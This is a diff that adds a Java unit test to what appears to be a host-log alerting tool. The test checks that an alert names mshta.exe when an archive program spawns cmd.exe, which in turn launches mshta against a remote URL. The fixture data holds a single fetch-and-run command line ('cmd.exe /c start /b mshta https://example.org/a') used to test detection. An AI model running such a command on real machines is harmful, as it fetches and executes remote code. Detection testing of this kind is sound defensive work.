@@ -125,6 +125,18 @@ class HostLogTest {
     }
 
     @Test
+    void whatRunsIsNamedThoughItsCommandLineSaysLess() {
+        LogStory story = new LogStory();
+        ProcessKey archive = story.known("C:\\WinRAR\\WinRAR.exe", "WinRAR.exe x.rar");
+        ProcessKey shell = story.start(archive, SYSTEM + "cmd.exe", "cmd.exe /c start /b mshta https://example.org/a");
+        story.start(shell, SYSTEM + "mshta.exe", "mshta https://example.org/a");
+        Alert last = story.alarms().getLast();
+        assertTrue(
+                last.events().getLast().text().contains("(mshta.exe, pid "),
+                () -> last.events().toString());
+    }
+
+    @Test
     void anotherProgramBetweenIsAnActorOfItsOwn() {
         LogStory story = new LogStory();
         ProcessKey reader = story.known("C:\\Office\\OUTLOOK.EXE", "OUTLOOK.EXE");
